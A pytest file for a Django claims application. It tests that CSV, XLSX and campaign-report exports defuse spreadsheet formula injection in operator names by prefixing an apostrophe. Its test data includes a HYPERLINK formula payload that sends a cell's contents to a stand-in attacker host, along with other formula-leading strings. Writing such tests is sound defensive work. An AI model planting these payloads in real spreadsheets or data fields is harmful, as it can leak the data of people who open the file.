"""Spreadsheet injection (issue 12, item 6): a hostile operator name is never a formula, in any export."""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from claims import exports
from claims.enums import ClaimState
from claims.models import Claim
from common.formatting import spreadsheet_text
from funding.models import MailboxCount
from tests.factories import ClaimRowFactory, OperatorFactory, agent, segur_campaign

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&C2;"Voir le dossier")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_starting_like_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Alpha Santé", "", "1+1", "a=b", None, 12, -3, date(2024, 1, 2)])
def test_other_text_and_every_non_text_value_pass_unchanged(value):
    assert spreadsheet_text(value) == value


@pytest.fixture
def hostile_claims():
    """One approved claim per hostile operator name (the amounts must stay numbers)."""
    return [ClaimRowFactory(state=ClaimState.APPROVED, operator__legal_name=name) for name in HOSTILE]


def export(client, action, claims):
    client.force_login(agent())
    return client.post(
        reverse("admin:claims_claim_changelist"), {"action": action, "_selected_action": [c.pk for c in claims]}
    )


def test_csv_export_neutralises_hostile_operator_names_and_keeps_amounts_as_numbers(client, hostile_claims):
    response = export(client, "export_csv", hostile_claims)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:], newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]
    names = [dict(zip(header, row, strict=True))["Opérateur"] for row in body]
    assert names == ["'" + name for name in HOSTILE]
    for row in body:
        cells = dict(zip(header, row, strict=True))
        assert cells["Montant à verser (€)"] == "5159,87"
        assert cells["BAL PER"] == "1000"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_xlsx_export_stores_hostile_operator_names_as_text_never_formulas(client, hostile_claims):
    response = export(client, "export_xlsx", hostile_claims)
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    name_column = header.index("Opérateur") + 1
    amount_column = header.index("Montant à verser (€)") + 1
    count_column = header.index("BAL PER") + 1
    for row, name in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=name_column)
        assert cell.data_type != "f"
        assert cell.data_type == "s"
        # XML normalises a stored carriage return to a line feed on reading (XML 1.0 §2.11).
        assert cell.value == ("'" + name).replace("\r", "\n")
        assert sheet.cell(row=row, column=amount_column).data_type == "n"
        assert float(sheet.cell(row=row, column=amount_column).value) == pytest.approx(5159.87)
        assert sheet.cell(row=row, column=count_column).value == 1000
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_the_xlsx_builder_never_writes_a_formula_cell_for_any_text_column(hostile_claims):
    workbook = load_workbook(
        io.BytesIO(exports.claims_xlsx(Claim.objects.filter(pk__in=[c.pk for c in hostile_claims])))
    )
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)


def test_campaign_report_csv_neutralises_hostile_operator_names(client):
    campaign = segur_campaign(code="budget", closure=date(2023, 6, 30))
    for name in HOSTILE:
        operator = OperatorFactory(legal_name=name)
        for kind, count in (("APP", 1), ("ORG", 2), ("PER", 3)):
            MailboxCount.objects.create(
                operator=operator, mailbox_type=kind, as_of=campaign.closure_date, count=count, source_note="t"
            )
    out = io.StringIO()
    call_command("campaign_report", "--campaign", "budget", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    names = {row[1] for row in rows[1:-1]}
    assert names == {"'" + name for name in HOSTILE}
    for row in rows[1:-1]:
        assert row[2:5] == ["1", "2", "3"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)

    # The same writer serves the campaign admin's CSV download.
    client.force_login(agent())
    response = client.get(reverse("admin:funding_campaign_report", args=[campaign.pk]) + "?format=csv")
    assert response.status_code == 200
    downloaded = list(csv.reader(io.StringIO(response.content.decode(), newline=""), delimiter=";"))
    assert {row[1] for row in downloaded[1:-1]} == {"'" + name for name in HOSTILE}
